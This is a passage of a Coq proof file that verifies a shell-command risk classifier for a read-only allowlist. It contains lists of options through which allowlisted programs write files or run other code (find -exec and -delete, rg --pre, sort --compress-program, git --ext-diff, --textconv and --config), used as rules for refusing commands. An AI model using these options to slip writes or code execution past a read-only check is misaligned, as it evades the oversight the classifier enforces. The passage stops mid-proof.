(* ===== verification/ShellFacts.v ===== *)
(** Correctness of the shell classifier: it returns on every plain command, its
    risk is the most severe of its parts, a read-only verdict excludes every
    way to write it knows of, and inputs on which it fails. *)
From S2P Require Import Prelude Text ShellLexer ShellLexerFacts Shell.

(** ** Accumulator computations that return *)
Definition returns {A} (m : AccM A) (P : A -> Prop) : Prop :=
  forall s, exists a s', m s = Ok (a, s') /\ P a.
Abbreviation safe m := (returns m (fun _ => True)).

Lemma returns_ret {A} (a : A) (P : A -> Prop) : P a -> returns (mret a : AccM A) P.
Proof. intros H s. by exists a, s. Qed.
Lemma returns_bind {A B} (m : AccM A) (f : A -> AccM B) P Q :
  returns m P -> (forall a, P a -> returns (f a) Q) -> returns (m ≫= f) Q.
Proof.
  intros Hm Hf s. destruct (Hm s) as (a & s1 & Ha & HP). destruct (Hf a HP s1) as (b & s2 & Hb & HQ).
  exists b, s2. unfold mbind, accm_bind. by rewrite Ha.
Qed.
Lemma returns_mono {A} (m : AccM A) (P Q : A -> Prop) :
  returns m P -> (forall a, P a -> Q a) -> returns m Q.
Proof. intros Hm HPQ s. destruct (Hm s) as (a & s' & Ha & HP). eauto 6. Qed.
Lemma safe_bind {A B} (m : AccM A) (f : A -> AccM B) P :
  safe m -> (forall a, returns (f a) P) -> returns (m ≫= f) P.
Proof. intros Hm Hf. by eapply returns_bind. Qed.
Lemma safe_ret {A} (a : A) : safe (mret a : AccM A).
Proof. by apply returns_ret. Qed.
Lemma safe_opaque c : safe (acc_opaque c).
Proof. intros s. by repeat eexists. Qed.
Lemma safe_extend l : safe (acc_extend l).
Proof. intros s. by repeat eexists. Qed.
Lemma safe_command c : safe (acc_command c).
Proof. intros s. by repeat eexists. Qed.

Create HintDb safe.
#[export] Hint Resolve safe_ret safe_opaque safe_extend safe_command : safe.

(** Splits binds, tests and matches until the hints close the goal. *)
Ltac safe_auto :=
  repeat first
    [ progress cbn zeta
    | lazymatch goal with |- returns (_ ≫= _) _ => apply safe_bind; [|intros ?] end
    | match goal with
      | |- returns (match ?x with _ => _ end) _ => destruct x
      | |- returns (let '_ := ?x in _) _ => destruct x
      end ];
  try solve [auto with safe].

Lemma plain_join sep l : plain sep -> Forall plain l -> plain (join sep l).
Proof.
  intros Hs. induction 1 as [|a l Ha Hl IH]; [constructor|].
  destruct l; cbn; [done|]. by repeat apply plain_app.
Qed.
Lemma plain_strip_prefix p s r : plain s -> strip_prefix p s = Some r -> plain r.
Proof.
  revert s. induction p as [|a p IH]; intros s Hs H; [by simplify_eq/=|].
  destruct s as [|b s]; [done|]. cbn in H. destruct (a =? b); [|done].
  inversion Hs; subst. by eapply IH.
Qed.

Section Safe.
Context (analyze_into : str -> nat -> AccM bool) (depth : nat).
Context (Hrec : forall t, plain t -> safe (analyze_into t (S depth))).

Lemma nested_text_safe t d : plain t -> safe (analyze_nested_text analyze_into t d depth).
Proof. intros Ht. unfold analyze_nested_text. safe_auto. Qed.

Lemma skip_env_safe ws i n : Forall plain_word ws -> safe (skip_env_from analyze_into ws i n depth).
Proof.
  revert i. induction ws as [ws IH] using (induction_ltof1 _ (@length Word)); unfold ltof in IH.
  intros i Hw. destruct ws as [|w ws]; cbn [skip_env_from]; [safe_auto|].
  inversion_clear Hw as [|? ? Hpw Hws]. cbn zeta.
  case_match; [safe_auto|]. case_match.
  { destruct ws as [|w' ws]; [safe_auto|]. inversion_clear Hws.
    apply safe_bind; [by apply nested_text_safe|safe_auto]. }
  case_match eqn:Hp.
  { apply safe_bind; [|safe_auto]. apply nested_text_safe. by eapply plain_strip_prefix. }
  case_match.
  { destruct ws as [|w' ws]; [safe_auto|]. inversion_clear Hws. apply IH; [cbn; lia|done]. }
  case_match; [apply IH; [cbn; lia|done]|safe_auto].
Qed.

Lemma unwrap_one_safe ws i w c : Forall plain_word ws ->
  safe (unwrap_one analyze_into ws i depth w c).
Proof.
  intros Hw. unfold unwrap_one.
  assert (safe (skip_env analyze_into ws (S i) depth)) by (apply skip_env_safe; by apply Forall_drop).
  safe_auto.
Qed.

Lemma unwrap_wrappers_safe n ws i c : Forall plain_word ws ->
  safe (unwrap_wrappers analyze_into n ws i depth c).
Proof.
  intros Hw. revert i c. induction n as [|n IH]; intros i c; cbn [unwrap_wrappers]; [safe_auto|].
  destruct (ws !! i) as [w|]; [|safe_auto]. case_match; [safe_auto|].
  apply safe_bind; [by apply unwrap_one_safe|]. intros [[j c']|p]; [apply IH|safe_auto].
Qed.

Lemma shell_options_plain ws a b : Forall plain_word ws ->
  Forall plain_word (fst (fst (shell_options ws a b))).
Proof.
  revert a b. induction ws as [ws IH] using (induction_ltof1 _ (@length Word)); unfold ltof in IH.
  intros a b Hw. destruct ws as [|w ws]; [constructor|]. inversion_clear Hw as [|? ? Hpw Hws].
  cbn [shell_options]. cbn zeta. repeat case_match; try done; try (apply IH; [cbn; lia|done]).
  all: subst; first [by constructor | inversion_clear Hws; apply IH; [cbn; lia|done]].
Qed.

Lemma shell_invocation_safe args f : Forall plain_word args ->
  safe (classify_shell_invocation analyze_into args depth f).
Proof.
  intros Hw. unfold classify_shell_invocation.
  pose proof (shell_options_plain args false false Hw) as H.
  destruct (shell_options args false false) as [[rest inl] rs]. cbn in H.
  destruct rest as [|w rest], inl; safe_auto. inversion_clear H. by apply nested_text_safe.
Qed.

Lemma classify_program_safe p pw args c f : Forall plain_word args ->
  safe (classify_program analyze_into p pw args depth c f).
Proof.
  intros Hw. unfold classify_program.
  assert (Hj : safe (analyze_nested_text analyze_into (join $" " (map w_text args))
                       (existsb w_dynamic args) depth)).
  { apply nested_text_safe, plain_join; [by repeat constructor|]. by apply Forall_map. }
  assert (Hs : forall i w, args !! i = Some w ->
            safe (analyze_nested_text analyze_into (w_text w) (w_dynamic w) depth)).
  { intros i w Hi. apply nested_text_safe. by eapply Forall_lookup_1 in Hw. }
  assert (Hsh : forall f, safe (classify_shell_invocation analyze_into args depth f))
    by (intros; by apply shell_invocation_safe).
  repeat (case_match; try solve [safe_auto]); safe_auto; eauto with safe.
  all: repeat case_match; eauto with safe; simplify_eq.
  all: first [apply Hsh | inversion_clear Hw; by apply shell_invocation_safe].
Qed.

Lemma redirects_safe rs sin r w : Forall plain_redirect rs ->
  safe (classify_redirects analyze_into rs sin depth r w).
Proof.
  intros H. revert r w. induction H as [|x rs Hx Hrs IH]; intros r w; cbn [classify_redirects]; [safe_auto|].
  destruct (r_kind x); cbn zeta; try apply IH.
  all: apply safe_bind; [|intros []; apply IH].
  all: destruct sin; [|auto with safe]; destruct (r_body x) eqn:Hb; [|auto with safe].
  all: apply safe_bind; [by apply Hrec, Hx|auto with safe].
Qed.

Lemma skip_reserved_safe ws i : safe (skip_reserved ws i).
Proof. revert i. induction ws as [|w ws IH]; intros i; cbn [skip_reserved]; safe_auto. Qed.

Lemma segment_safe seg pf : plain_segment seg -> safe (classify_segment analyze_into seg depth pf).
Proof.
  intros [Hw Hr]. unfold classify_segment. cbn zeta.
  apply safe_bind; [apply skip_reserved_safe|]. intros i.
  apply safe_bind; [unfold skip_keyword; safe_auto|]. intros j.
  apply safe_bind; [by apply unwrap_wrappers_safe|]. intros [k c]. apply safe_bind.
  - assert (Hd : Forall plain_word (drop (k `min` length (s_words seg)) (s_words seg)))
      by by apply Forall_drop.
    destruct (drop _ _) as [|w args]; [safe_auto|]. inversion_clear Hd.
    case_match; [safe_auto|by apply classify_program_safe].
  - intros [c' f]. apply safe_bind; [by apply redirects_safe|]. intros [r w]. safe_auto.
Qed.

Lemma segments_safe segs pf : Forall plain_segment segs ->
  safe (classify_segments analyze_into segs depth pf).
Proof.
  intros H. revert pf. induction H as [|s segs Hs Hss IH]; intros pf; cbn [classify_segments]; [safe_auto|].
  apply safe_bind; [by apply segment_safe|]. intros f. apply IH.
Qed.

Lemma analyze_each_safe l : Forall plain l -> safe (analyze_each analyze_into l depth).
Proof.
  induction 1 as [|t l Ht Hl IH]; cbn [analyze_each]; [safe_auto|].
  apply safe_bind; [by apply Hrec|done].
Qed.
End Safe.

Lemma analyze_into_safe rounds source depth :
  plain source -> (MAX_DEPTH < depth + rounds)%nat ->
  safe (analyze_into_with lex rounds source depth).
Proof.
  revert source depth. induction rounds as [|rounds IH]; intros source depth Hp Hd;
    cbn [analyze_into_with]; (destruct (MAX_DEPTH <? depth)%nat eqn:E; [safe_auto|]);
    apply Nat.ltb_ge in E; [lia|].
  destruct (lex_ok source Hp) as (l & Hl & Hs & Hn).
  apply (returns_bind _ _ (eq l)); [intros s; unfold acc_lift; rewrite Hl; by repeat eexists|].
  intros ? <-. apply safe_bind; [auto with safe|]. intros _.
  assert (Hrec : forall t, plain t -> safe (analyze_into_with lex rounds t (S depth)))
    by (intros t Ht; apply IH; [done|lia]).
  apply safe_bind; [by apply segments_safe|]. intros _.
  apply safe_bind; [by apply analyze_each_safe|]. auto with safe.
Qed.

(** Every plain command is classified: the fuel is enough and no slice panics. *)
Lemma analyze_ok command : plain command -> exists a, analyze command = Ok a.
Proof.
  intros Hp. unfold analyze, analyze_with. cbn zeta. destruct (MAX_SOURCE_BYTES <? len command); [by eexists|].
  assert (Hs : safe (analyze_into_with lex (S MAX_DEPTH) command 0))
    by (apply analyze_into_safe; [done|unfold MAX_DEPTH; lia]).
  destruct (Hs (mkAcc [] [])) as (b & s & -> & _). by eexists.
Qed.

(** ** Severity *)
Lemma risk_max_le_l a b : risk_le a (risk_max a b).
Proof. unfold risk_le, risk_max. destruct (Nat.leb_spec (risk_rank a) (risk_rank b)); lia. Qed.
Lemma risk_max_le_r a b : risk_le b (risk_max a b).
Proof. unfold risk_le, risk_max. destruct (Nat.leb_spec (risk_rank a) (risk_rank b)); lia. Qed.
Lemma risk_max_or a b : risk_max a b = a \/ risk_max a b = b.
Proof. unfold risk_max. destruct (_ <=? _)%nat; auto. Qed.
#[global] Instance risk_le_trans : Transitive risk_le.
Proof. unfold risk_le. intros a b c. lia. Qed.
#[global] Instance risk_le_refl : Reflexive risk_le.
Proof. unfold risk_le. intros a. lia. Qed.
Lemma risk_le_antisymm a b : risk_le a b -> risk_le b a -> a = b.
Proof. unfold risk_le. by destruct a, b; cbn; intros; try lia. Qed.

Lemma fold_risk_ge rs r : risk_le r (fold_left risk_max rs r) /\
  Forall (fun x => risk_le x (fold_left risk_max rs r)) rs.
Proof.
  revert r. induction rs as [|x rs IH]; intros r; cbn; [by split|].
  destruct (IH (risk_max r x)) as [H1 H2]. split.
  - by transitivity (risk_max r x); [apply risk_max_le_l|].
  - constructor; [by transitivity (risk_max r x); [apply risk_max_le_r|]|done].
Qed.
Lemma fold_risk_in rs r : In (fold_left risk_max rs r) (r :: rs).
Proof.
  revert r. induction rs as [|x rs IH]; intros r; cbn; [by left|].
  destruct (IH (risk_max r x)) as [H|H]; [|by right; right].
  destruct (risk_max_or r x) as [E|E]; rewrite <-H, E; auto.
Qed.

(** The verdict bounds every command of the line, and opaque syntax. *)
Lemma summarize_ge p acc : let a := summarize p acc in
  Forall (fun c => risk_le (sc_risk c) (sa_risk a)) (sa_commands a)
  /\ (sa_opaque a <> [] -> risk_le Opaque (sa_risk a))
  /\ (opaque_contains FunctionDefinition (sa_opaque a) = true -> risk_le Destructive (sa_risk a)).
Proof.
  unfold summarize. cbn zeta. cbn [sa_commands sa_opaque sa_risk].
  set (base := match map sc_risk (a_commands acc) with [] => Opaque | r :: rs => fold_left risk_max rs r end).
  set (op := match a_commands acc with [] => _ | _ => _ end).
  set (r1 := match op with [] => base | _ => risk_max base Opaque end).
  assert (H1 : risk_le base r1) by (unfold r1; destruct op; [done|apply risk_max_le_l]).
  set (r2 := if opaque_contains FunctionDefinition op then _ else _).
  assert (H2 : risk_le r1 r2) by (unfold r2; destruct (opaque_contains _ _); [apply risk_max_le_l|done]).
  split; [|split].
  - assert (Hb : Forall (fun c => risk_le (sc_risk c) base) (a_commands acc)).
    { unfold base. destruct (a_commands acc) as [|c cs]; [constructor|]. cbn.
      destruct (fold_risk_ge (map sc_risk cs) (sc_risk c)) as [Ha Hf]. constructor; [done|].
      by apply Forall_map in Hf. }
    eapply List.Forall_impl; [|apply Hb]. intros c Hc. cbn in Hc. by transitivity base; [|transitivity r1].
  - intros Hne. transitivity r1; [|done]. unfold r1. destruct op; [done|apply risk_max_le_r].
  - intros Hf. unfold r2. rewrite Hf. apply risk_max_le_r.
Qed.

Lemma summarize_catastrophic p acc :
  sa_risk (summarize p acc) = Catastrophic ->
  Exists (fun c => sc_risk c = Catastrophic) (sa_commands (summarize p acc)).
Proof.
  unfold summarize. cbn zeta. cbn [sa_commands sa_risk]. intros H.
  assert (Hb : match map sc_risk (a_commands acc) with [] => Opaque | r :: rs => fold_left risk_max rs r end
               = Catastrophic).
  { destruct (match map sc_risk (a_commands acc) with [] => Opaque | r :: rs => _ end);
      repeat case_match; done. }
  destruct (a_commands acc) as [|c cs]; [done|]. cbn in Hb.
  pose proof (fold_risk_in (map sc_risk cs) (sc_risk c)) as Hin. rewrite Hb in Hin.
  apply List.Exists_exists. change (sc_risk c :: map sc_risk cs) with (map sc_risk (c :: cs)) in Hin.
  apply in_map_iff in Hin as (x & Hx & Hin). eauto.
Qed.

Lemma analyze_with_summarize lexer command a :
  analyze_with lexer command = Ok a ->
  exists p acc, a = summarize p acc /\
    (snd (p, acc) = mkAcc [] [Oversized] \/
     analyze_into_with lexer (S MAX_DEPTH) command 0 (mkAcc [] []) = Ok (p, acc)).
Proof.
  unfold analyze_with. cbn zeta. destruct (MAX_SOURCE_BYTES <? len command).
  - intros H. injection H as <-. exists false, (mkAcc [] [Oversized]). auto.
  - unfold mbind, res_bind. destruct (analyze_into_with _ _ _ _ _) as [[p acc]| |]; intros H; [|done|done].
    injection H as <-. exists p, acc. auto.
Qed.

(** ** What is recorded about each command *)
Definition keeps {A} (P : ShellCommand -> Prop) (m : AccM A) (Q : A -> Prop) : Prop :=
  forall s a s', m s = Ok (a, s') -> Forall P (a_commands s) -> Forall P (a_commands s') /\ Q a.

Section Keeps.
Context (P : ShellCommand -> Prop).

Lemma keeps_ret {A} (a : A) (Q : A -> Prop) : Q a -> keeps P (mret a) Q.
Proof. intros HQ s b s' H Hs. injection H as <- <-. done. Qed.
Lemma keeps_bind {A B} (m : AccM A) (f : A -> AccM B) Q R :
  keeps P m Q -> (forall a, Q a -> keeps P (f a) R) -> keeps P (m ≫= f) R.
Proof.
  intros Hm Hf s b s' H Hs. unfold mbind, accm_bind in H.
  destruct (m s) as [[a s1]| |] eqn:E; [|done|done].
  destruct (Hm s a s1 E Hs) as [Hs1 HQ]. by apply (Hf a HQ s1 b s' H).
Qed.
Lemma keeps_mono {A} (m : AccM A) (Q R : A -> Prop) :
  keeps P m Q -> (forall a, Q a -> R a) -> keeps P m R.
Proof. intros Hm HQR s a s' H Hs. destruct (Hm s a s' H Hs). auto. Qed.
Lemma keeps_opaque c : keeps P (acc_opaque c) (fun _ => True).
Proof. intros s a s' [= <- <-] Hs. done. Qed.
Lemma keeps_extend l : keeps P (acc_extend l) (fun _ => True).
Proof. intros s a s' [= <- <-] Hs. done. Qed.
Lemma keeps_lift {A} (r : Res A) : keeps P (acc_lift r) (fun _ => True).
Proof. intros s a s' H Hs. unfold acc_lift in H. by destruct r; simplify_eq/=. Qed.
Lemma keeps_command c : P c -> keeps P (acc_command c) (fun _ => True).
Proof.
  intros Hc s a s' [= <- <-] Hs. split; [|done]. cbn. apply Forall_app. by repeat constructor.
Qed.
End Keeps.

Create HintDb keeps.
#[export] Hint Resolve keeps_ret keeps_opaque keeps_extend keeps_lift keeps_command : keeps.
#[export] Hint Extern 1 => exact I : keeps.

(** Splits binds (with a trivial intermediate assertion) and matches. *)
Ltac keeps_auto :=
  repeat first
    [ progress cbn zeta
    | lazymatch goal with
      | |- keeps _ (_ ≫= _) _ => apply (keeps_bind _ _ _ (fun _ => True)); [|intros ? _]
      end
    | match goal with
      | |- keeps _ (match ?x with _ => _ end) _ => destruct x
      | |- keeps _ (let '_ := ?x in _) _ => destruct x
      end ];
  try solve [auto with keeps].

Lemma risk_max_read_only a b : risk_max a b = ReadOnly -> a = ReadOnly /\ b = ReadOnly.
Proof. by destruct a, b. Qed.

Lemma rm_risk_not_read_only args x : rm_risk args x <> ReadOnly.
Proof. unfold rm_risk. cbn zeta. repeat match goal with |- context [if ?b then _ else _] => destruct b end; done. Qed.

Lemma dd_risk_not_read_only ts : dd_risk ts <> ReadOnly.
Proof.
  unfold dd_risk. cbn zeta. destruct (omap _ ts) as [|t us]; [done|].
  assert (Ht : forall t, (if is_block_device t then Catastrophic
                          else if starts_with t $"/dev/" then Destructive else Mutating) <> ReadOnly)
    by (intros u; destruct (is_block_device u), (starts_with u $"/dev/"); done).
  generalize (Ht t). generalize (if is_block_device t then Catastrophic
                          else if starts_with t $"/dev/" then Destructive else Mutating).
  induction us as [|u us IH]; intros r Hr; [done|]. cbn [fold_left].
  apply IH. intros E. by apply risk_max_read_only in E as [? _].
Qed.

(** The allowlist and the list of file-mutating programs do not meet. *)
Lemma one_of_In x ws : one_of x ws = true <-> exists w, In w ws /\ x = lit w.
Proof.
  unfold one_of, str_eqb. rewrite existsb_exists. by setoid_rewrite bool_decide_eq_true.
Qed.
Lemma one_of_false_in x (ws vs : list string) :
  one_of x ws = true -> forallb (fun w => negb (one_of (lit w) vs)) ws = true -> one_of x vs = false.
Proof.
  rewrite one_of_In, forallb_forall. intros (w & Hw & ->) H. by apply negb_true_iff, H.
Qed.

Lemma git_skip_subcommand args sub rest :
  git_skip_globals args = Some (sub :: rest) -> git_subcommand args = Some sub.
Proof.
  induction args as [|a args IH]; [done|]. cbn [git_skip_globals git_subcommand].
  destruct (one_of a ["--no-pager"; "-P"; "--no-optional-locks"]) eqn:Ea.
  - intros H. rewrite (one_of_false_in _ _ _ Ea) by done.
    apply one_of_In in Ea as (w & Hw & ->). cbn in Hw.
    destruct Hw as [<-|[<-|[<-|[]]]]; cbn; auto.
  - destruct (starts_with a $"-") eqn:Ed; [done|]. intros [= <- <-].
    match goal with |- context [one_of a ?l] => destruct (one_of a l) eqn:Eo end; [|done]. apply one_of_In in Eo as (w & Hw & ->). cbn in Hw.
    repeat destruct Hw as [<-|Hw]; done.
Qed.

Lemma read_only_git_subcommand args sub :
  read_only_git args = true -> git_subcommand args = Some sub ->
  one_of sub ["status"; "diff"; "log"; "show"; "blame"; "grep"; "ls-files"; "rev-parse"; "remote";
              "branch"] = true.
Proof.
  unfold read_only_git. destruct (git_skip_globals args) as [[|s rest]|] eqn:E; [done| |done].
  rewrite (git_skip_subcommand _ _ _ E). intros H [= ->].
  destruct (existsb _ rest); [done|]. destruct (one_of sub _) eqn:E1 in H.
  { apply one_of_In in E1 as (w & Hw & ->). cbn in Hw. repeat destruct Hw as [<-|Hw]; done. }
  destruct (str_eqb sub $"remote") eqn:E2; [by apply bool_decide_eq_true in E2 as ->|].
  destruct (str_eqb sub $"branch") eqn:E3; [by apply bool_decide_eq_true in E3 as ->|done].
Qed.

(** ** Ways to write or to run something
    An account of the allowlist from the other side: the options, actions and
    operands with which a listed program writes a file or runs another program. *)
Definition takes (v : str) (options : list string) : Prop :=
  exists o, In o options /\ (v = lit o \/ exists value, v = lit o ++ $"=" ++ value).
Definition dashed (v : str) : Prop := exists r, v = $"-" ++ r.
(** [-abc] with [flag] among its letters. *)
Definition bundles (v : str) (flag : char) : Prop :=
  exists a b, v = $"-" ++ a ++ [flag] ++ b /\ forall r, v <> $"--" ++ r.
Definition is_one (v : str) (words : list string) : Prop := exists w, In w words /\ v = lit w.

Definition READERS : list string :=
  ["pwd"; "cat"; "head"; "tail"; "wc"; "stat"; "file"; "cut"; "tr"; "whoami"; "df"; "uname"; "ls"; "rg"; "grep";
   "du"; "date"; "sort"; "uniq"; "printf"; "echo"; "find"; "git"].
Definition GIT_READERS : list string := ["status"; "diff"; "log"; "show"; "blame"; "grep"; "ls-files"; "rev-parse"].
Definition GIT_GLOBALS : list string := ["--no-pager"; "-P"; "--no-optional-locks"].

Inductive writes_or_runs : str -> list str -> Prop :=
| wr_unlisted program args : ~ is_one program READERS -> writes_or_runs program args
| wr_option program args v :
    ~ is_one program ["uniq"; "find"; "git"] -> In v args ->
    takes v ["--output"; "--exec"; "--command"; "--config"; "--files-from"] -> writes_or_runs program args
| wr_find args v :
    In v args -> is_one v ["-delete"; "-exec"; "-execdir"; "-ok"; "-okdir"; "-fprint"; "-fprint0"; "-fprintf"; "-fls"] ->
    writes_or_runs $"find" args
| wr_sort args v :
    In v args -> takes v ["--output"; "--temporary-directory"; "--compress-program"] \/ bundles v 111 \/ bundles v 84 ->
    writes_or_runs $"sort" args
| wr_uniq a x b y c : ~ dashed x -> ~ dashed y -> writes_or_runs $"uniq" (a ++ x :: b ++ y :: c)
| wr_date args v : In v args -> takes v ["--set"] \/ bundles v 115 -> writes_or_runs $"date" args
| wr_rg args v : In v args -> takes v ["--pre"; "--hostname-bin"] -> writes_or_runs $"rg" args
| wr_git_global globals v rest :
    List.Forall dashed globals -> dashed v -> ~ is_one v GIT_GLOBALS -> writes_or_runs $"git" (globals ++ v :: rest)
| wr_git_command globals sub rest :
    List.Forall dashed globals -> ~ dashed sub -> ~ is_one sub (GIT_READERS ++ ["remote"; "branch"]) ->
    writes_or_runs $"git" (globals ++ sub :: rest)
| wr_git_option globals sub rest v :
    List.Forall dashed globals -> is_one sub GIT_READERS -> In v rest ->
    takes v ["--output"; "--exec"; "--command"; "--config"; "--files-from"]
    \/ is_one v ["--ext-diff"; "--textconv"; "--paginate"] -> writes_or_runs $"git" (globals ++ sub :: rest)
| wr_git_remote globals verb rest :
    List.Forall dashed globals -> ~ is_one verb ["-v"; "show"] -> writes_or_runs $"git" (globals ++ $"remote" :: verb :: rest)
| wr_git_branch globals rest v :
    List.Forall dashed globals -> In v rest ->
    ~ is_one v ["--all"; "-a"; "--list"; "--show-current"; "--verbose"; "-v"; "-vv"] ->
    writes_or_runs $"git" (globals ++ $"branch" :: rest).

Lemma one_of_is_one v words : one_of v words = true <-> is_one v words.
Proof. apply one_of_In. Qed.
Lemma one_of_is_none v words : ~ is_one v words -> one_of v words = false.
Proof. rewrite <-one_of_is_one. by destruct (one_of v words). Qed.
Lemma dashed_spec v : starts_with v $"-" = true <-> dashed v.
Proof. apply starts_with_spec. Qed.
Lemma bundles_flag v c : bundles v c -> short_flag v c = true.
Proof.
  intros (a & b & -> & Hno). unfold short_flag. apply andb_true_intro. split; [apply andb_true_intro; split|].
  - apply starts_with_spec. eauto.
  - apply negb_true_iff. destruct (starts_with _ $"--") eqn:E; [|done]. apply starts_with_spec in E as [r Hr]. by destruct (Hno r).
  - unfold contains_char. apply existsb_exists. exists c. split; [|apply Z.eqb_refl].
    change (In c (a ++ [c] ++ b)). rewrite !in_app_iff. right. left. by left.
Qed.
Lemma forallb_refused {A} (f : A -> bool) l v : In v l -> f v = false -> forallb f l = false.
Proof. intros Hin Hf. destruct (forallb f l) eqn:E; [|done]. rewrite forallb_forall in E. by rewrite (E v Hin) in Hf. Qed.
Lemma takes_cases v options : takes v options ->
  exists o, In o options /\ (str_eqb v (lit o) = true \/ starts_with v (lit o ++ $"=") = true).
Proof.
  intros (o & Ho & [->|[value ->]]); exists o; (split; [done|]); [left; by apply str_eqb_spec|right].
  apply starts_with_spec. exists value. by rewrite app_assoc.
Qed.
Lemma takes_output v : takes v ["--output"; "--exec"; "--command"; "--config"; "--files-from"] ->
  option_executes_or_writes v = true.
Proof.
  intros (o & Ho & Hv)%takes_cases. unfold option_executes_or_writes. apply orb_true_iff.
  destruct Hv as [Hv|Hv]; [left; apply existsb_exists; by exists o|right].
  apply existsb_exists. exists (o ++ "=")%string. cbn in Ho.
  repeat destruct Ho as [<-|Ho]; try done; (split; [cbn; tauto|exact Hv]).
Qed.
Lemma output_dashed v : option_executes_or_writes v = true -> starts_with v $"-" = true.
Proof.
  intros Hv. apply starts_with_spec. unfold option_executes_or_writes in Hv. apply orb_true_iff in Hv as [Hv|Hv].
  - apply one_of_In in Hv as (w & Hw & ->). cbn in Hw. repeat destruct Hw as [<-|Hw]; try done; by apply starts_with_spec.
  - apply existsb_exists in Hv as (w & Hw & [r ->]%starts_with_spec). cbn in Hw.
    repeat destruct Hw as [<-|Hw]; try done; by apply starts_with_spec.
Qed.

(** The global options are skipped or refused. *)
Lemma git_skip_dashed globals rest : List.Forall dashed globals ->
  git_skip_globals (globals ++ rest) = None \/ git_skip_globals (globals ++ rest) = git_skip_globals rest.
Proof.
  induction 1 as [|v globals Hv _ IH]; [by right|]. cbn [git_skip_globals app].
  destruct (one_of v _); [done|]. apply dashed_spec in Hv. rewrite Hv. by left.
Qed.
Lemma git_skip_operand sub rest : ~ dashed sub -> git_skip_globals (sub :: rest) = Some (sub :: rest).
Proof.
  intros Hs. cbn [git_skip_globals]. rewrite one_of_is_none.
  - rewrite <-dashed_spec in Hs. by destruct (starts_with sub $"-").
  - intros (w & Hw & ->). apply Hs. cbn in Hw. repeat destruct Hw as [<-|Hw]; try done; by apply dashed_spec.
Qed.
Lemma read_only_git_skip globals sub rest : List.Forall dashed globals -> ~ dashed sub ->
  read_only_git (sub :: rest) = false -> read_only_git (globals ++ sub :: rest) = false.
Proof.
  unfold read_only_git. intros Hg Hs. rewrite (git_skip_operand _ _ Hs).
  destruct (git_skip_dashed globals (sub :: rest) Hg) as [->| ->]; [done|]. by rewrite (git_skip_operand _ _ Hs).
Qed.
Lemma git_global_refused globals v rest : List.Forall dashed globals -> dashed v -> ~ is_one v GIT_GLOBALS ->
  read_only_git (globals ++ v :: rest) = false.
Proof.
  intros Hg Hv Hn. unfold read_only_git. replace (git_skip_globals (globals ++ v :: rest)) with (@None (list str)); [done|].
  destruct (git_skip_dashed globals (v :: rest) Hg) as [->| ->]; [done|]. cbn [git_skip_globals].
  by rewrite one_of_is_none, (proj2 (dashed_spec v)).
Qed.
Lemma git_command_refused sub rest : ~ dashed sub -> ~ is_one sub (GIT_READERS ++ ["remote"; "branch"]) ->
  read_only_git (sub :: rest) = false.
Proof.
  intros Hd Hn. unfold read_only_git. rewrite (git_skip_operand _ _ Hd). destruct (existsb _ rest); [done|].
  assert (forall words, incl words (GIT_READERS ++ ["remote"; "branch"]) -> one_of sub words = false) as Hno.
  { intros words Hi. apply one_of_is_none. intros (w & Hw & ->). apply Hn. exists w. split; [by apply Hi|done]. }
  match goal with |- context [one_of sub ?l] => rewrite (Hno l) by by apply (incl_appl _ (incl_refl l)) end.
  assert (forall w, In w ["remote"; "branch"] -> str_eqb sub (lit w) = false) as Hne.
  { intros w Hw. apply str_eqb_ne. intros ->. apply Hn. exists w. split; [|done]. apply in_app_iff. by right. }
  rewrite !Hne by (cbn; tauto). done.
Qed.
Lemma git_option_refused sub rest v : is_one sub GIT_READERS -> In v rest ->
  takes v ["--output"; "--exec"; "--command"; "--config"; "--files-from"]
  \/ is_one v ["--ext-diff"; "--textconv"; "--paginate"] -> read_only_git (sub :: rest) = false.
Proof.
  intros Hs Hv Ho. unfold read_only_git.
  assert (~ dashed sub) as Hd.
  { rewrite <-dashed_spec. destruct Hs as (w & Hw & ->). cbn in Hw. repeat destruct Hw as [<-|Hw]; done. }
  rewrite (git_skip_operand _ _ Hd). destruct (existsb _ rest); [done|].
  apply one_of_is_one in Hs. unfold GIT_READERS in Hs. rewrite Hs. apply negb_false_iff, existsb_exists. exists v. split; [done|].
  destruct Ho as [Ho|(w & Hw & ->)]; [by rewrite (takes_output _ Ho)|]. cbn in Hw.
  repeat destruct Hw as [<-|Hw]; done.
Qed.
Lemma git_remote_refused verb rest : ~ is_one verb ["-v"; "show"] -> read_only_git ($"remote" :: verb :: rest) = false.
Proof.
  intros Hn. change (read_only_git ($"remote" :: verb :: rest)) with
    (if existsb (fun value => one_of value ["--ext-diff"; "--textconv"; "--exec-path"; "--config-env"]
         || starts_with value $"--exec-path=" || starts_with value $"--config-env=") (verb :: rest)
     then false else one_of verb ["-v"; "show"]).
  destruct (existsb _ _); [done|]. by apply one_of_is_none.
Qed.
Lemma git_branch_refused rest v : In v rest ->
  ~ is_one v ["--all"; "-a"; "--list"; "--show-current"; "--verbose"; "-v"; "-vv"] ->
  read_only_git ($"branch" :: rest) = false.
Proof.
  intros Hv Hn. change (read_only_git ($"branch" :: rest)) with
    (if existsb (fun value => one_of value ["--ext-diff"; "--textconv"; "--exec-path"; "--config-env"]
         || starts_with value $"--exec-path=" || starts_with value $"--config-env=") rest
     then false else forallb (fun value => one_of value
          ["--all"; "-a"; "--list"; "--show-current"; "--verbose"; "-v"; "-vv"]) rest).
  destruct (existsb _ _); [done|]. eapply forallb_refused; [exact Hv|]. by apply one_of_is_none.
Qed.

Lemma option_refused program args v : ~ is_one program ["uniq"; "find"; "git"] -> In v args ->
  option_executes_or_writes v = true -> read_only_program program args = false.
Proof.
  intros Hp Hv Ho. assert (forall w, In w ["uniq"; "find"; "git"] -> str_eqb program (lit w) = false) as Hne.
  { intros w Hw. apply str_eqb_ne. intros ->. apply Hp. by exists w. }
  unfold read_only_program. cbn zeta. rewrite (Hne "uniq"), (Hne "find"), (Hne "git") by (cbn; tauto).
  repeat match goal with |- (if ?b then _ else _) = false => destruct b end; try done.
  all: eapply forallb_refused; [exact Hv|]; cbv beta; rewrite ?Ho, ?(output_dashed _ Ho), ?andb_false_r; done.
Qed.
Lemma unlisted_refused program args : ~ is_one program READERS -> read_only_program program args = false.
Proof.
  intros Hp. assert (forall w, In w READERS -> str_eqb program (lit w) = false) as Hne.
  { intros w Hw. apply str_eqb_ne. intros ->. apply Hp. by exists w. }
  assert (forall words, incl words READERS -> one_of program words = false) as Hno.
  { intros words Hi. apply one_of_is_none. intros (w & Hw & ->). apply Hp. exists w. split; [by apply Hi|done]. }
